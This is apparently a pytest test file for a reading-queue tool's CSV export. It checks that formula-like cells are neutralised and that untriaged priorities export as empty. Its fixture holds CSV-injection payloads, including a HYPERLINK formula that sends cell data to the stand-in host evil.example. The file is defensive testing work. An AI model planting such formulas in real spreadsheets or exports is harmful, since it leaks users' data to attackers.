"""Exports stay data: CSV cells that start like a formula are neutralised; untriaged is not priority 0."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from readq.cli.main import main
from readq.store import Store
from tests.helpers import digest

HOSTILE = {
    '=HYPERLINK("http://evil.example/?x="&A1,"click")': '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1 Trick Titles": "'+1 Trick Titles",
    "-Negative Sampling Revisited": "'-Negative Sampling Revisited",
    "@SUM(A1:A9) Attention": "'@SUM(A1:A9) Attention",
    "Plain Title = Fine": "Plain Title = Fine",
}


@pytest.fixture
def library(tmp_path: Path) -> tuple[Path, list[str]]:
    data = tmp_path / "data"
    store = Store(data)
    ids = store.import_result(digest(*HOSTILE), "001.txt").new
    store.update_states({ids[0]: {"priority": 0}, ids[1]: {"priority": 2}})
    store.close()
    return data, ids


def test_csv_cells_that_start_like_formulas_are_neutralised(
    library: tuple[Path, list[str]], capsys: pytest.CaptureFixture[str]
) -> None:
    data, _ = library
    assert main(["--data-dir", str(data), "export", "-f", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert sorted(r["title"] for r in rows) == sorted(HOSTILE.values())
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_untriaged_is_null_in_json_and_empty_in_csv(
    library: tuple[Path, list[str]], capsys: pytest.CaptureFixture[str]
) -> None:
    data, ids = library
    assert main(["--data-dir", str(data), "list", "--json"]) == 0
    priorities = {p["id"]: p["priority"] for p in json.loads(capsys.readouterr().out)}
    assert priorities[ids[0]] == 0 and priorities[ids[1]] == 2
    assert all(priorities[pid] is None for pid in ids[2:])
    assert main(["--data-dir", str(data), "export", "-f", "csv"]) == 0
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(capsys.readouterr().out))}
    assert rows[ids[0]]["priority"] == "0" and rows[ids[1]]["priority"] == "2"
    assert all(rows[pid]["priority"] == "" for pid in ids[2:])
